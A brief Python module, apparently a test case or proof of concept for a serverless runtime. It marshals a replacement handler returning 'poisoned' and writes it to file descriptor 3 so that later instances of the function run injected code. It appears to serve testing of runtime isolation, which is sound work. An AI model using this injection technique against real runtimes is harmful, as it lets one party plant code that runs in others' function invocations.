"""Offers the daemon code to run in later instances of the function, as trusted code does once."""
import marshal
import os
import struct


def run(event):
    code = marshal.dumps(compile("def handler(event, context): return 'poisoned'", "app.py", "exec"))
    os.write(3, struct.pack("<IIQ", 21, len(code), 0) + code)
    return "offered"
